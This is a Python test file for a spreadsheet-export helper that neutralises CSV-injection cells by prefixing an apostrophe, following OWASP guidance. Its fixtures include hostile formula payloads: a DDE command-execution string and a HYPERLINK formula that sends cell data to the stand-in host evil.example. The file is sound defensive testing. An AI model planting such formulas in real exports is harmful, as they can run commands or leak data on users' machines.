"""CSV cells that a spreadsheet would run as formulas are neutralised (OWASP, CSV injection; A28.1)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.spreadsheets import neutralise_formula, restore_formula_text

# Cells that start with a character OWASP's CSV-injection guidance lists (= + - @ tab CR), and what is written:
# the same text with one apostrophe in front. Expected values written by hand from the guidance.
FORMULAS = [
    ("=1+2", "'=1+2"),
    ("+SUM(A1)", "'+SUM(A1)"),
    ("-2+3", "'-2+3"),
    ("@cmd", "'@cmd"),
    ("\t=x", "'\t=x"),
    ("\r=x", "'\r=x"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),  # OWASP's dynamic data exchange example
    ('=HYPERLINK("http://evil.example/?"&A1,"详情")', '\'=HYPERLINK("http://evil.example/?"&A1,"详情")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
]
# Text no spreadsheet reads as a formula is written as it is.
PLAIN = ["常住人口基本信息", "a=b", "1-2", "01-02/000001", " =1+2", "'abc", "'", "", "A15.3"]


@pytest.mark.parametrize(("value", "written"), FORMULAS)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_gets_one_apostrophe_in_front_A28_1(
    value: str, written: str
) -> None:
    assert neutralise_formula(value) == written


@pytest.mark.parametrize("value", PLAIN)
def test_other_text_is_written_unchanged(value: str) -> None:
    assert neutralise_formula(value) == value


@pytest.mark.parametrize(("value", "written"), [("-5", "'-5"), ("-3.14", "'-3.14"), ("+86", "'+86")])
def test_text_that_looks_like_a_signed_number_is_neutralised_like_any_other_text(value: str, written: str) -> None:
    # The documented decision: no exception for number-like text (`-2+3` would be a formula); real numbers are
    # written as numbers by the CSV writer and never reach this function.
    assert neutralise_formula(value) == written


@pytest.mark.parametrize(("value", "written"), [("'=x", "''=x"), ("''-1", "'''-1"), ("'@", "''@")])
def test_text_that_already_looks_neutralised_gets_one_more_apostrophe_so_readers_can_tell(
    value: str, written: str
) -> None:
    assert neutralise_formula(value) == written
    assert restore_formula_text(written) == value


@pytest.mark.parametrize(("value", "written"), FORMULAS)
def test_a_machine_reader_recovers_the_value_by_removing_the_one_apostrophe(value: str, written: str) -> None:
    assert restore_formula_text(written) == value


@pytest.mark.parametrize("value", PLAIN)
def test_a_machine_reader_reads_other_cells_as_they_are(value: str) -> None:
    assert restore_formula_text(value) == value


@given(st.text())
def test_every_text_round_trips_and_none_is_written_starting_a_formula(value: str) -> None:
    written = neutralise_formula(value)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_formula_text(written) == value
